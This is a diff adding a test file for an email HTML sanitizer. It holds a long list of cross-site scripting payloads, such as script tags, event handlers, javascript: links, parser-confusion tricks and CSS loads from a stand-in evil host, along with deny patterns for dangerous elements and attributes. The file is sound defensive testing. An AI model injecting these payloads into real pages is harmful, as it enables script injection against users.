@@ -1,0 +1,245 @@
+import { parseDocument } from 'htmlparser2'
+import { describe, expect, test } from 'vitest'
+import { safeHtml } from '../../worker/features/inbox/rules/safe-html.ts'
+
+/** Ways to run a script, load a resource, cover the page or leave it, collected from the habits of attackers. */
+const PAYLOADS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script>alert(1)',
+  '<script/src=//evil.example>',
+  '<img src=x onerror=alert(1)>',
+  '<img src=x onerror=alert(1) ',
+  '<img src=x onerror=alert(1)//',
+  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
+  '<img src="x`<img src=x onerror=alert(1)>`">',
+  '<img/src="x"/onerror=alert(1)>',
+  '<img src=x o\u006eerror=alert(1)>',
+  '<img src="javascript:alert(1)">',
+  '<img srcset="https://evil.example/a 1x">',
+  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
+  '<img src="data:text/html,<script>alert(1)</script>">',
+  '<img dynsrc="javascript:alert(1)" lowsrc="https://evil.example/">',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
+  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<form action=javascript:alert(1)><input type=submit></form>',
+  '<form><button formaction=javascript:alert(1)>x</button></form>',
+  '<input onfocus=alert(1) autofocus>',
+  '<isindex action=javascript:alert(1) type=image>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
+  '<embed src="//evil.example/x.swf">',
+  '<applet code=x></applet>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<style>@import "https://evil.example/x.css";body{position:fixed}</style>',
+  '<style><img src="</style><img src=x onerror=alert(1)//">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="java&#115;cript:alert(1)">x</a>',
+  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
+  '<a href="\u0001javascript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<a href="https://ok.example" onclick="alert(1)" ping="https://evil.example">x</a>',
+  '<a href=\'https://ok.example/"onmouseover="alert(1)\'>x</a>',
+  '<a href="https://ok.example" target="_self" rel="opener">x</a>',
+  '<div style="background:url(javascript:alert(1))">x</div>',
+  '<div style="background-image:u\\72l(https://evil.example/x)">x</div>',
+  '<div style="background:&#117;rl(https://evil.example/x)">x</div>',
+  '<div style="width:expression(alert(1))">x</div>',
+  '<div style="width:exp/**/ression(alert(1))">x</div>',
+  '<div style="-moz-binding:url(//evil.example/x)">x</div>',
+  '<div style="position:fixed;top:0;left:0;z-index:9999;width:100%;height:100%">x</div>',
+  '<div style=\'font-family:"</style><script>alert(1)</script>"\'>x</div>',
+  '<table background="https://evil.example/x"><tr><td background=javascript:alert(1)>x</table>',
+  '<body onload=alert(1) background="https://evil.example/x">x</body>',
+  '<video><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
+  '<xmp><img src=x onerror=alert(1)></xmp>',
+  '<select><xmp><script>alert(1)</script></xmp></select>',
+  '<template><script>alert(1)</script></template>',
+  '<plaintext><script>alert(1)</script>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
+  '<!-- --!><img src=x onerror=alert(1)>',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
+  '</div></body></html><script>alert(1)</script>',
+  '<div id="root" class="mantine-Modal" name="cookie">x</div>',
+  '<custom-element onclick=alert(1)>x</custom-element>',
+  '<p title="<script>alert(1)</script>">x</p>',
+  'x<',
+  '<im',
+  '<p title="never closed onmouseover=alert(1)>x</p>',
+]
+
+const FORBIDDEN_ELEMENTS =
+  /^(?:script|style|iframe|frame|object|embed|applet|form|input|button|textarea|select|svg|math|meta|base|link|title|template|noscript|xmp|plaintext|video|audio|source|marquee|details|body|html|head)$/
+const SAFE_ADDRESS = /^(?:https?:\/\/|mailto:|tel:)/
+const UNSAFE_STYLE = /url|expression|position|binding|import|z-index|javascript|\\|@/i
+
+type Found = { elements: string[]; problems: string[] }
+
+/** Looks at the output inside a larger page, as a browser will meet it, by lists that share nothing with the rules. */
+function inspect(html: string): Found {
+  const found: Found = { elements: [], problems: [] }
+  const page = parseDocument(`<main>${html}</main><footer></footer>`)
+  const top = page.children.map((node) => ('name' in node ? node.name : node.type))
+  if (top.join() !== 'main,footer') found.problems.push(`breaks out: ${top.join()}`)
+  const open = [...page.children]
+  for (let node = open.pop(); node !== undefined; node = open.pop()) {
+    if (!('attribs' in node)) {
+      if (node.type !== 'text') found.problems.push(`a ${node.type}`)
+      continue
+    }
+    found.elements.push(node.name)
+    open.push(...node.children)
+    if (FORBIDDEN_ELEMENTS.test(node.name) || node.name.includes('-')) found.problems.push(`<${node.name}>`)
+    for (const [name, value] of Object.entries(node.attribs)) {
+      const isUnsafe =
+        name.startsWith('on') ||
+        /^(?:srcset|background|action|formaction|ping|srcdoc|name|xlink:href)$/.test(name) ||
+        (name === 'href' && !SAFE_ADDRESS.test(value)) ||
+        (name === 'data-src' && !/^https?:\/\//.test(value)) ||
+        (name === 'src' && !/^data:image\/(?:png|gif|jpeg|webp);base64,/.test(value)) ||
+        (name === 'style' && UNSAFE_STYLE.test(value)) ||
+        (name === 'target' && value !== '_blank')
+      if (isUnsafe) found.problems.push(`${name}=${value}`)
+    }
+  }
+  return found
+}
+
+describe('nothing that can run, load or cover the page is left of', () => {
+  test.each(PAYLOADS)('%s', async (payload) => {
+    const { html } = await safeHtml(payload)
+    expect(inspect(html).problems).toEqual([])
+  })
+
+  test('any two of them in a row, or one cut off anywhere', async () => {
+    for (const [index, payload] of PAYLOADS.entries()) {
+      const next = PAYLOADS[(index * 7 + 3) % PAYLOADS.length] ?? ''
+      for (const mail of [payload + next, next + payload, payload.slice(0, payload.length / 2), payload.slice(0, -1)])
+        expect([mail, inspect((await safeHtml(mail)).html).problems]).toEqual([mail, []])
+    }
+  })
+})
+
+describe('the inspection itself', () => {
+  test('finds what it is there to find', () => {
+    for (const bad of [
+      '<img src=x>',
+      '<p onclick=x>',
+      '<script>',
+      '</main><p>',
+      '<a href="javascript:x">',
+      '<p title="',
+    ])
+      expect([bad, inspect(bad).problems.length > 0]).toEqual([bad, true])
+  })
+})
+
+describe('a mail keeps', () => {
+  test('its words, its form and its tables', async () => {
+    const { html } = await safeHtml(
+      '<html><body><h1 style="color:#333;font-family:&quot;Segoe UI&quot;,Arial">Hi &amp; bye</h1><table width="600" cellpadding=0><tr><td align=center>1 &lt; 2</td></tr></table></body></html>',
+    )
+    expect(html).toBe(
+      '<h1 style="color:#333;font-family:\'Segoe UI\',Arial">Hi &amp; bye</h1><table width="600" cellpadding="0"><tr><td align="center">1 &lt; 2</td></tr></table>',
+    )
+  })
+
+  test('its links, which open elsewhere and tell nothing', async () => {
+    const { html } = await safeHtml(
+      '<a href="https://example.com/?a=1&amp;b=2">x</a> <a href="mailto:a@b.c">y</a> <a href="tel:+1">z</a>',
+    )
+    expect(html).toContain('<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">x</a>')
+    expect(html).toContain('href="mailto:a@b.c"')
+    expect(html).toContain('href="tel:+1"')
+  })
+
+  test('its images, unloaded and counted, and those that came along', async () => {
+    expect(
+      await safeHtml(
+        '<img src="https://t.example/p.gif?u=1" width=1><img src=HTTP://t.example/b.png alt="a b"><img src="cid:logo@x"><img src="data:image/png;base64,iVBORw0=">',
+      ),
+    ).toEqual({
+      html: '<img data-src="https://t.example/p.gif?u=1" width="1"><img data-src="HTTP://t.example/b.png" alt="a b"><img data-cid="logo@x"><img src="data:image/png;base64,iVBORw0=">',
+      blockedImages: 2,
+    })
+  })
+
+  test('the names by which quotations fold, and no other', async () => {
+    const { html } = await safeHtml(
+      '<div class="gmail_quote x" id=y><blockquote type=cite>old</blockquote></div><div id="divRplyFwdMsg">From</div>',
+    )
+    expect(html).toBe(
+      '<div class="gmail_quote"><blockquote type="cite">old</blockquote></div><div id="divRplyFwdMsg">From</div>',
+    )
+  })
+
+  test('text outside of ASCII and entities as they read', async () => {
+    expect((await safeHtml('<p>Grüße &euro; 日本 &#128512;</p>')).html).toBe('<p>Grüße € 日本 😀</p>')
+  })
+
+  test('and a second cleaning changes nothing', async () => {
+    const once = await safeHtml(
+      '<p style="color:red">a<img src="https://t.example/x"><img src=cid:y><a href="https://z.example">b',
+    )
+    expect(await safeHtml(once.html)).toEqual(once)
+  })
+})
+
+describe('a mail beyond measure', () => {
+  const timed = async (html: string) => {
+    const started = performance.now()
+    const safe = await safeHtml(html)
+    return { safe, ms: performance.now() - started }
+  }
+
+  test('10,000 elements deep is shown, no deeper than a browser nests', async () => {
+    const { safe } = await timed(`${'<div>'.repeat(10_000)}the words`)
+    expect(safe.html).toContain('the words')
+    expect(safe.html.split('<div>').length - 1).toBeLessThanOrEqual(200)
+    expect(inspect(safe.html).problems).toEqual([])
+  })
+
+  test('20,000 elements deep, which the rewriter refuses, is shown as text', async () => {
+    const { safe } = await timed(`${'<div>'.repeat(20_000)}a &lt; b <b onclick=x>bold</b>`)
+    expect(safe).toEqual({ html: '<div style="white-space:pre-wrap">a &lt; b bold</div>', blockedImages: 0 })
+  })
+
+  test.each([
+    ['100,000 open tags', '<p>'.repeat(100_000)],
+    ['100,000 closed tags', '<b>x</b>'.repeat(100_000)],
+    ['39,000 tags', '<b>x</b>'.repeat(19_500)],
+    ['300,000 attributes', `<p ${'a=b '.repeat(300_000)}>x`],
+    ['two million spaces', ' '.repeat(2_000_000)],
+    ['two million signs', '<'.repeat(2_000_000)],
+    ['three million letters', 'x'.repeat(3_000_000)],
+    ['an attribute of a million letters', `<a href="https://x/${'x'.repeat(1_000_000)}">x`],
+    ['39,000 comments', '<!--x-->'.repeat(39_000)],
+  ])('of %s ends within a second', async (_, html) => {
+    const { safe, ms } = await timed(html)
+    expect(ms).toBeLessThan(1000)
+    expect(typeof safe.html).toBe('string')
+  })
+})
